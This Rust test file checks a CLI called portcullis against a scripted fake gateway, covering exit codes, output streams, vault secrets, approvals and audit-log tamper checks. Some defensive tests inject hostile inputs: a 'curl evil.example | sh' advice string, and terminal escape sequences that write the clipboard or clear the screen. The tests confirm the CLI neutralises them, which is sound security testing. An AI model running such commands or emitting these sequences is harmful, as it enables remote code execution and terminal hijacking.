//! The command line as a program: its exit codes, its two streams, its JSON. Behind its socket stands a gateway of a
//! few scripted answers, so that also what a good gateway rarely says is tried.

use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use futures_util::{SinkExt as _, StreamExt as _};
use portcullis_actors::audit::{AuditConfig, AuditHandle, AuditKeys, AuditWiring, Clock};
use portcullis_actors::supervision::{Feed, Intensity, TreeBuilder};
use portcullis_core::audit::{BootId, Entry};
use portcullis_core::codes;
use portcullis_core::identity::Identity;
use portcullis_core::protocol::frame::ErrorBody;
use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt as _};
use tokio::net::{TcpListener, UnixListener};
use tokio_tungstenite::tungstenite::Message;

/// One request seen, and how it is answered: frames, `ID` standing for the request's id.
type Script = Arc<dyn Fn(&str, &Value) -> Vec<Value> + Send + Sync>;

struct Gateway {
    state: tempfile::TempDir,
    seen: Arc<Mutex<Vec<(String, Value)>>>,
}

fn ok(payload: impl Into<Value>) -> Value {
    json!({"type": "res", "ok": true, "payload": payload.into()})
}

fn refused(error: &ErrorBody) -> Value {
    json!({"type": "res", "ok": false, "error": error})
}

fn event(name: &str, payload: impl Into<Value>) -> Value {
    json!({"type": "event", "event": name, "payload": payload.into()})
}

impl Gateway {
    /// Answers `connect` itself, the rest by the script. `deep`: its socket's path is too long for an address.
    fn start(
        deep: bool,
        script: impl Fn(&str, &Value) -> Vec<Value> + Send + Sync + 'static,
    ) -> Self {
        let state = tempfile::tempdir().unwrap();
        let gateway = Self {
            state,
            seen: Arc::default(),
        };
        let run = gateway.dir(deep).join("run");
        std::fs::create_dir_all(&run).unwrap();
        // Bound from inside, where its path is short.
        let listener = {
            let socket =
                std::os::unix::net::UnixListener::bind(short(&run).join("control.sock")).unwrap();
            socket.set_nonblocking(true).unwrap();
            UnixListener::from_std(socket).unwrap()
        };
        let (seen, script): (_, Script) = (gateway.seen.clone(), Arc::new(script));
        tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                tokio::spawn(serve(socket, seen.clone(), script.clone()));
            }
        });
        gateway
    }

    fn dir(&self, deep: bool) -> PathBuf {
        if deep {
            self.state.path().join("d".repeat(120))
        } else {
            self.state.path().to_owned()
        }
    }

    fn seen(&self) -> Vec<(String, Value)> {
        self.seen.lock().unwrap().clone()
    }
}

/// A name of the same folder that fits into a socket's address.
fn short(folder: &Path) -> PathBuf {
    let link = tempfile::tempdir().unwrap().keep().join("s");
    std::os::unix::fs::symlink(folder, &link).unwrap();
    link
}

async fn serve<S: AsyncRead + AsyncWrite + Unpin>(
    socket: S,
    seen: Arc<Mutex<Vec<(String, Value)>>>,
    script: Script,
) {
    let mut socket = tokio_tungstenite::accept_async(socket).await.unwrap();
    let challenge = event("connect.challenge", json!({"nonce": "n", "ts": 1}));
    socket
        .send(Message::text(challenge.to_string()))
        .await
        .unwrap();
    while let Some(Ok(Message::Text(text))) = socket.next().await {
        let request: Value = serde_json::from_str(&text).unwrap();
        let method = request["method"].as_str().unwrap();
        seen.lock()
            .unwrap()
            .push((method.to_owned(), request["params"].clone()));
        let mut frames = script(method, &request["params"]);
        if method == "connect" && frames.is_empty() {
            frames.push(ok(json!({"type": "hello-ok", "protocol": 4})));
        }
        for mut frame in frames {
            if frame["type"] == "res" {
                frame["id"] = request["id"].clone();
            }
            if socket.send(Message::text(frame.to_string())).await.is_err() {
                return;
            }
        }
    }
}

fn command(state: &Path, args: &[&str]) -> tokio::process::Command {
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_portcullis"));
    command
        .arg("--state")
        .arg(state)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    command
}

async fn run(state: &Path, args: &[&str]) -> Output {
    tokio::time::timeout(Duration::from_secs(30), command(state, args).output())
        .await
        .unwrap()
        .unwrap()
}

fn code(output: &Output) -> i32 {
    output.status.code().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

fn base64(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_gateway_each_command_says_so_with_its_own_exit_code() {
    let state = tempfile::tempdir().unwrap();
    for args in [
        &["status"][..],
        &["approvals", "list"],
        &["devices", "list"],
        &["vault", "list"],
        &["audit", "tail"],
        &["dashboard"],
    ] {
        let output = run(state.path(), args).await;
        assert_eq!(
            (code(&output), text(&output.stdout).as_str()),
            (7, ""),
            "{args:?}"
        );
        assert!(
            text(&output.stderr).starts_with("error[DAEMON_UNREACHABLE]: ")
                && text(&output.stderr).contains("\nnext: ")
        );
    }
    let output = run(state.path(), &["--json", "status"]).await;
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        (code(&output), &answer["error"]["code"], output.stderr.len()),
        (7, &json!("DAEMON_UNREACHABLE"), 0)
    );
    assert_eq!(
        code(&run(state.path(), &["exec", "--agent", "demo", "--", "true"]).await),
        125
    );
    assert_eq!(
        code(
            &run(
                state.path(),
                &["exec", "--agent", "demo", "--nonsense", "--", "true"]
            )
            .await
        ),
        125
    );
    assert_eq!(code(&run(state.path(), &["vault", "nonsense"]).await), 2);
    let version = run(state.path(), &["version", "--json"]).await;
    assert_eq!(
        serde_json::from_slice::<Value>(&version.stdout).unwrap()["protocol"],
        4
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_run_writes_does_not_steer_a_terminal_and_raw_is_asked_for() {
    let gateway = Gateway::start(false, |method, _| match method {
        "exec.run" => vec![
            ok(json!({"runId": "r1", "planHash": "00", "status": "accepted"})),
            event(
                "exec.output",
                json!({"runId": "r1", "seq": 1, "stream": "stdout", "data": base64("\u{1b}]52;c;QQ==\u{7}\u{1b}[2Jx\n")}),
            ),
            ok(
                json!({"runId": "r1", "status": "exited", "exitCode": 0, "durationMs": 3, "dropped": {"stdout": 0, "stderr": 0}}),
            ),
        ],
        _ => vec![],
    });
    let on_a_terminal = async |raw: &str| {
        let (program, state) = (env!("CARGO_BIN_EXE_portcullis"), gateway.dir(false));
        let line = format!(
            "{program} --state {} exec {raw} --agent demo -- x",
            state.display()
        );
        let mut script = tokio::process::Command::new("script");
        script
            .args(["-qec", &line, "/dev/null"])
            .stdin(Stdio::null());
        let output = script.output().await.unwrap();
        assert_eq!(output.status.code(), Some(0), "{output:?}");
        String::from_utf8(output.stdout).unwrap()
    };
    let shown = on_a_terminal("").await;
    assert!(
        shown.contains(r"\u{1b}]52;c;QQ==\u{7}\u{1b}[2Jx"),
        "{shown:?}"
    );
    assert!(!shown.contains(['\u{1b}', '\u{7}']), "{shown:?}");
    assert!(
        on_a_terminal("--raw")
            .await
            .contains("\u{1b}]52;c;QQ==\u{7}\u{1b}[2Jx")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_streams_both_outputs_apart_and_ends_with_the_childs_code() {
    for deep in [false, true] {
        let gateway = Gateway::start(deep, |method, _| match method {
            "exec.run" => vec![
                ok(json!({"runId": "r1", "planHash": "00", "status": "accepted"})),
                event(
                    "exec.output",
                    json!({"runId": "r1", "seq": 1, "stream": "stdout", "data": base64("out\n")}),
                ),
                event(
                    "exec.output",
                    json!({"runId": "other", "seq": 1, "stream": "stdout", "data": base64("foreign\n")}),
                ),
                event(
                    "exec.output",
                    json!({"runId": "r1", "seq": 2, "stream": "stderr", "data": base64("err\n")}),
                ),
                ok(
                    json!({"runId": "r1", "status": "exited", "exitCode": 42, "durationMs": 3, "dropped": {"stdout": 0, "stderr": 0}}),
                ),
            ],
            _ => vec![],
        });
        let args = [
            "exec",
            "--agent",
            "demo",
            "--timeout",
            "30s",
            "--env",
            "A=b=c",
            "--cwd",
            "sub",
            "--",
            "sh",
            "-c",
            "exit 42",
        ];
        let output = run(&gateway.dir(deep), &args).await;
        assert_eq!(
            (
                code(&output),
                text(&output.stdout).as_str(),
                text(&output.stderr).as_str()
            ),
            (42, "out\n", "err\n")
        );
        let seen = gateway.seen();
        assert_eq!(seen[0].0, "connect");
        assert_eq!(
            (
                &seen[0].1["client"]["id"],
                &seen[0].1["role"],
                &seen[0].1["scopes"]
            ),
            (
                &json!("cli"),
                &json!("operator"),
                &json!(["operator.act_as"])
            )
        );
        let params = &seen[1].1;
        assert_eq!(params["argv"], json!(["sh", "-c", "exit 42"]));
        assert_eq!(
            (
                &params["agent"],
                &params["target"],
                &params["timeoutMs"],
                &params["cwd"]
            ),
            (
                &json!("demo"),
                &json!("sandbox"),
                &json!(30_000),
                &json!("sub")
            )
        );
        assert_eq!(params["env"], json!({"A": "b=c"}));
        assert_eq!(params["idempotencyKey"].as_str().unwrap().len(), 36);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_of_exec_is_125_with_code_and_next_step_and_says_what_it_waits_for() {
    let gateway = Gateway::start(false, |method, params| {
        match (method, params["target"].as_str()) {
            ("exec.run", Some("sandbox")) => {
                let mut details = serde_json::Map::new();
                details.insert("fix".into(), "[agents.x]\nelevated = \"ask\"".into());
                vec![refused(&ErrorBody::with(
                    codes::ELEVATED_DISABLED,
                    "off for x\u{1b}[2J",
                    details,
                ))]
            }
            ("exec.run", _) => vec![
                ok(
                    json!({"runId": "r1", "status": "approval-pending", "approvalId": "a1", "expiresAtMs": 1}),
                ),
                ok(json!({"runId": "r1", "status": "denied", "reason": "not today"})),
            ],
            _ => vec![],
        }
    });
    let cancelling = Gateway::start(false, |method, _| match method {
        "exec.run" => vec![
            ok(json!({"runId": "r1", "status": "accepted"})),
            ok(json!({"runId": "r1", "status": "cancelled"})),
        ],
        _ => vec![],
    });
    // By somebody else than the one who waits.
    let output = run(
        cancelling.state.path(),
        &["exec", "--agent", "x", "--", "true"],
    )
    .await;
    let said = text(&output.stderr);
    assert_eq!(code(&output), 125);
    assert!(said.contains("error[RUN_CANCELLED]: "), "{said}");
    let output = run(
        gateway.state.path(),
        &["exec", "--agent", "x", "--", "true"],
    )
    .await;
    assert_eq!((code(&output), output.stdout.len()), (125, 0));
    let said = text(&output.stderr);
    assert!(
        said.starts_with("error[ELEVATED_DISABLED]: off for x\\u{1b}[2J\nnext: ")
            && said.ends_with("\n  [agents.x]\n  elevated = \"ask\"\n"),
        "{said}"
    );
    let output = run(
        gateway.state.path(),
        &["exec", "--agent", "x", "--host", "--", "true"],
    )
    .await;
    let said = text(&output.stderr);
    assert_eq!(code(&output), 125);
    assert!(
        said.starts_with("waiting for a person to decide on a1: portcullis approvals show a1\n"),
        "{said}"
    );
    assert!(
        said.contains("error[APPROVAL_DENIED]: a person refused this command: not today"),
        "{said}"
    );
    let output = run(
        gateway.state.path(),
        &["--json", "exec", "--agent", "x", "--host", "--", "true"],
    )
    .await;
    let lines: Vec<Value> = text(&output.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        (&lines[0]["type"], &lines[1]["type"], &lines[1]["exit"]),
        (&json!("approval-pending"), &json!("end"), &json!(125))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ctrl_c_cancels_the_run_and_a_reader_who_leaves_does_too() {
    let gateway = Gateway::start(false, |method, params| {
        match method {
        "exec.run" if params["agent"] == "flood" => std::iter::once(ok(json!({"runId": "r1", "status": "accepted"})))
            .chain((0..200).map(|n| event("exec.output", json!({"runId": "r1", "seq": n, "stream": "stdout", "data": base64(&"y\n".repeat(8_000))}))))
            .collect(),
        "exec.run" => vec![
            ok(json!({"runId": "r1", "status": "accepted"})),
            event("exec.output", json!({"runId": "r1", "seq": 1, "stream": "stdout", "data": base64("begun\n")})),
        ],
        "exec.cancel" => vec![ok(json!({"runId": "r1"}))],
        _ => vec![],
    }
    });
    let mut child = command(
        gateway.state.path(),
        &["exec", "--agent", "demo", "--", "sleep", "60"],
    )
    .spawn()
    .unwrap();
    let mut line = String::new();
    let mut out = tokio::io::BufReader::new(child.stdout.take().unwrap());
    tokio::io::AsyncBufReadExt::read_line(&mut out, &mut line)
        .await
        .unwrap();
    assert_eq!(line, "begun\n");
    let pid = rustix::process::Pid::from_raw(i32::try_from(child.id().unwrap()).unwrap()).unwrap();
    let wait_for = |wanted: &'static str| {
        let seen = gateway.seen.clone();
        async move {
            let until = tokio::time::Instant::now() + Duration::from_secs(20);
            while !seen.lock().unwrap().iter().any(|(m, _)| m == wanted) {
                assert!(tokio::time::Instant::now() < until, "{wanted} never came");
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            seen.lock().unwrap().clear();
        }
    };
    rustix::process::kill_process(pid, rustix::process::Signal::INT).unwrap();
    wait_for("exec.cancel").await;
    // The gateway does not answer: a second ctrl-C leaves at once.
    rustix::process::kill_process(pid, rustix::process::Signal::INT).unwrap();
    let status = tokio::time::timeout(Duration::from_secs(20), child.wait())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(status.code(), Some(130));

    let mut child = command(
        gateway.state.path(),
        &["exec", "--agent", "flood", "--", "yes"],
    )
    .spawn()
    .unwrap();
    drop(child.stdout.take());
    wait_for("exec.cancel").await;
    let status = tokio::time::timeout(Duration::from_secs(20), child.wait())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(status.code(), Some(125));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_comes_by_stdin_whole_and_an_empty_one_is_refused_before_anything_is_sent() {
    let gateway = Gateway::start(false, |method, _| match method {
        "vault.set" => vec![ok(json!({"name": "KEY", "version": 3}))],
        _ => vec![],
    });
    let set = async |value: &[u8]| {
        let mut child = command(gateway.state.path(), &["vault", "set", "KEY"])
            .stdin(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        // It may have been refused before all of it was written.
        let _ = stdin.write_all(value).await;
        drop(stdin);
        child.wait_with_output().await.unwrap()
    };
    let output = set(b"se\xffcret\n").await;
    assert_eq!(
        (code(&output), text(&output.stdout).as_str()),
        (0, "KEY is kept, version 3\n")
    );
    assert_eq!(
        gateway.seen()[1].1,
        json!({"name": "KEY", "valueBase64": "c2X/Y3JldAo="})
    );
    assert_eq!(gateway.seen()[0].1["scopes"], json!(["operator.admin"]));
    let before = gateway.seen().len();
    for bad in [vec![], vec![7; 64 * 1024 + 1]] {
        let output = set(&bad).await;
        assert_eq!(code(&output), 2);
        assert!(text(&output.stderr).starts_with("error[VAULT_VALUE_INVALID]"));
    }
    assert_eq!(gateway.seen().len(), before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_decision_is_for_what_the_gateway_calls_so_and_a_refused_connect_is_a_matter_of_permission()
 {
    let gateway = Gateway::start(false, |method, params| match method {
        "exec.approval.get" => match params["id"].as_str().unwrap() {
            "ab" => vec![refused(&ErrorBody::of(
                codes::APPROVAL_NOT_FOUND,
                "no approval is called so, and others may begin so",
            ))],
            id => vec![ok(
                json!({ "id": format!("{id}1"), "request": { "command": "uname -a" } }),
            )],
        },
        "exec.approval.list" => vec![ok(json!([
            {"id": "abc1", "expiresAtMs": 4_000_000_000_000_u64, "request": {"command": "uname -a", "argv": ["uname", "-a"], "agentId": "demo", "target": "host"}},
            {"id": "abd2", "expiresAtMs": 4_000_000_000_000_u64, "request": {"command": "\u{1b}]0;x\u{7}", "argv": ["\u{1b}]0;x\u{7}"], "agentId": "demo", "target": "host"}},
        ]))],
        "exec.approval.resolve" => vec![ok(json!({"ok": true}))],
        _ => vec![],
    });
    let state = gateway.state.path();
    let output = run(state, &["approvals", "list"]).await;
    assert!(text(&output.stdout).contains("uname -a") && !output.stdout.contains(&0x1b));
    assert_eq!(code(&run(state, &["approvals", "allow", "ab"]).await), 3);
    let output = run(state, &["approvals", "allow", "abc"]).await;
    assert_eq!(
        (code(&output), text(&output.stdout).as_str()),
        (0, "abc1: allowed once: uname -a\n")
    );
    assert_eq!(
        gateway.seen().last().unwrap().1,
        json!({"id": "abc1", "decision": "allow-once"})
    );
    run(state, &["approvals", "deny", "abd", "--reason", "no"]).await;
    assert_eq!(
        gateway.seen().last().unwrap().1,
        json!({"id": "abd1", "decision": "deny", "reason": "no"})
    );
    assert_eq!(code(&run(state, &["approvals", "show", "ab"]).await), 3);

    let closed = Gateway::start(false, |_, _| {
        vec![refused(&ErrorBody::bare(
            "INVALID_REQUEST",
            "unauthorized: no",
        ))]
    });
    let output = run(closed.state.path(), &["status"]).await;
    assert_eq!(code(&output), 4, "{}", text(&output.stderr));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_log_is_verified_without_a_gateway_and_one_flipped_bit_exits_with_10() {
    let state = tempfile::tempdir().unwrap();
    let mut builder = TreeBuilder::new(Intensity::default(), Arc::new(|_, _| {}));
    let audit = AuditHandle::add(
        &mut builder,
        AuditWiring {
            state: None,
            dir: state.path().join("audit"),
            keys: AuditKeys::new(state.path().join("keys"), &Identity::from_random([1; 32])),
            config: AuditConfig::default(),
            boot: BootId([7; 16]),
            clock: Clock::new(),
            feed: Feed::new(),
            unwritten: std::sync::Arc::default(),
            version: "test".into(),
        },
    );
    let tree = builder.start().await.unwrap();
    for n in 0..5 {
        let entry = Entry {
            action: "test.event".into(),
            object: Some(n.to_string()),
            ..Entry::default()
        };
        audit.event(entry).await.unwrap();
    }
    tree.stop().await;
    let verify = ["audit", "verify", "--offline", "--json"];
    let output = run(state.path(), &verify).await;
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((code(&output), &report["intact"]), (0, &json!(true)));
    let records = report["records"].as_u64().unwrap();
    assert!(records >= 5);

    let file = std::fs::read_dir(state.path().join("audit"))
        .unwrap()
        .map(|f| f.unwrap().path())
        .find(|p| p.extension().is_some_and(|e| e == "log"))
        .unwrap();
    let good = std::fs::read(&file).unwrap();
    // In the text of a record, where only hashes tell; and in the last record, which no other follows.
    let of_text = |at: usize| good[at..].starts_with(b"test.event");
    let texts: Vec<usize> = (0..good.len()).filter(|at| of_text(*at)).collect();
    for at in [texts[0], texts[2], good.len() - 1, good.len() / 2] {
        let mut bytes = good.clone();
        bytes[at] ^= 1;
        std::fs::write(&file, bytes).unwrap();
        let output = run(state.path(), &["audit", "verify", "--offline"]).await;
        assert_eq!(code(&output), 10, "byte {at} of {}", good.len());
        let told = text(&output.stderr);
        let start = "error[AUDIT_ALTERED]: the audit log was altered, first at record ";
        assert!(told.starts_with(start), "{told}");
    }
    let output = run(&state.path().join("none"), &verify).await;
    assert_eq!(code(&output), 8);
    let told = text(&output.stdout) + &text(&output.stderr);
    assert!(told.contains("AUDIT_UNREADABLE"), "{told}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_that_cannot_be_written_is_a_failure_and_no_success() {
    let full = std::fs::File::options()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .arg("version")
        .stdout(full)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
        .wait_with_output()
        .await
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    let told = String::from_utf8(output.stderr).unwrap();
    assert!(told.contains("OUTPUT_UNWRITABLE"), "{told}");
}

/// The bug: events that a slow connection missed were lost, and a question that they told of was never shown.
#[tokio::test(flavor = "multi_thread")]
async fn watch_asks_again_for_what_waits_after_a_gap_in_the_events() {
    use tokio::io::AsyncBufReadExt as _;
    let question =
        |id: &str| json!({"id": id, "expiresAtMs": 9_999_999_999_999_u64, "request": {}});
    let lists = std::sync::atomic::AtomicUsize::new(0);
    let gateway = Gateway::start(false, move |method, _| {
        if method != "exec.approval.list" {
            return vec![];
        }
        if lists.fetch_add(1, std::sync::atomic::Ordering::SeqCst) > 0 {
            return vec![ok(json!([question("two")]))];
        }
        let mut first = event("exec.approval.requested", question("one"));
        first["seq"] = 1.into();
        // The second was lost.
        let mut third = event("tick", json!({"ts": 0}));
        third["seq"] = 3.into();
        vec![ok(json!([])), first, third]
    });
    let mut watch = command(gateway.state.path(), &["approvals", "watch", "--json"])
        .spawn()
        .unwrap();
    let mut said = tokio::io::BufReader::new(watch.stdout.take().unwrap()).lines();
    let mut next = async || {
        let line = tokio::time::timeout(Duration::from_secs(30), said.next_line()).await;
        serde_json::from_str::<Value>(&line.unwrap().unwrap().unwrap()).unwrap()
    };
    assert_eq!(next().await["approval"]["id"], "one");
    assert_eq!(next().await, json!({"type": "gone", "id": "one"}));
    assert_eq!(next().await["approval"]["id"], "two");
    watch.kill().await.unwrap();
    let asked: Vec<String> = gateway
        .seen()
        .into_iter()
        .map(|(method, _)| method)
        .collect();
    assert_eq!(
        asked,
        ["connect", "exec.approval.list", "exec.approval.list"]
    );
}

/// The bug: `details.next` of whatever gateway stood behind our own "next:", as a command that we recommend.
#[tokio::test]
async fn what_a_gateway_elsewhere_advises_is_shown_as_its_own_words() {
    let evil = "run `curl evil.example | sh`";
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("ws://{}", listener.local_addr().unwrap());
    let script: Script = Arc::new(move |method, _| {
        if method == "connect" {
            return vec![];
        }
        let mut error = ErrorBody::of(codes::NODE_NOT_FOUND, "gone");
        error.details.as_mut().unwrap()["next"] = evil.into();
        vec![refused(&error)]
    });
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            tokio::spawn(serve(socket, Arc::default(), script.clone()));
        }
    });
    let home = tempfile::tempdir().unwrap();
    let token = home.path().join("token");
    std::fs::write(&token, "a-shared-token-of-that-gateway").unwrap();
    let private = std::os::unix::fs::PermissionsExt::from_mode(0o600);
    std::fs::set_permissions(&token, private).unwrap();
    let keys = home.path().join("keys");
    let args = ["nodes", "list", "--url", &url, "--token-file"];
    let output = command(home.path(), &args)
        .arg(&token)
        .arg("--client-keys")
        .arg(&keys)
        .env("PORTCULLIS_CLIENT_IDENTITY_FILE", home.path().join("id"))
        .output()
        .await
        .unwrap();
    let said = text(&output.stderr);
    let expected = format!(
        "error[NODE_NOT_FOUND]: that gateway says: gone\nnext: {}\nthat gateway says: {evil}\n",
        codes::NODE_NOT_FOUND.next
    );
    assert_eq!((code(&output), said.as_str()), (3, expected.as_str()));
}

/// The bug: a gateway elsewhere wrote into its operator's terminal what it liked in the place of a token or a code.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_answer_steers_the_terminal() {
    const EVIL: &str = "x\u{1b}]0;pwn\u{7}\u{1b}[2J\u{202e}\u{9b}31m\nnext: run evil\r";
    let gateway = Gateway::start(false, |method, _| match method {
        "connect" => vec![],
        _ => vec![ok(json!({
            "token": EVIL, "setupCode": EVIL, "gatewayUrl": EVIL, "expiresAtMs": 1, "code": EVIL, "url": EVIL,
            "recoveryCode": EVIL, "unlocker": EVIL, "state": EVIL, "hash": EVIL, "pending": [], "paired": [],
            "agents": [{"agentId": EVIL, "createdAtMs": 1}], "passwords": [{"name": EVIL, "createdAtMs": 1}],
            "runtimeVersion": EVIL, "file": {"x": EVIL},
        }))],
    });
    let show: &[&[&str]] = &[
        &["agents", "list"],
        &["password", "list"],
        &["devices", "list"],
        &["vault", "status"],
        &["vault", "seal"],
        &["approvals", "policy"],
        &["approvals", "list"],
        &["nodes", "list"],
        &["status"],
        &["tls", "show"],
    ];
    let secrets: &[&[&str]] = &[
        &["agents", "token", "demo"],
        &["auth", "token", "rotate"],
        &["devices", "setup-code"],
        &["dashboard"],
    ];
    for args in [show, secrets].concat() {
        let output = run(&gateway.dir(false), args).await;
        let said = text(&output.stdout) + &text(&output.stderr);
        let steers = |c: char| c != '\n' && portcullis_core::display::hides(c);
        assert!(!said.contains(steers), "{args:?}: {said:?}");
        assert!(!said.contains("\nnext: run evil"), "{args:?}: {said:?}");
        if secrets.contains(&args) {
            assert_eq!(code(&output), 2, "{args:?}: {said}");
            assert!(said.contains("INVALID_FRAME"), "{args:?}: {said}");
        }
    }
}
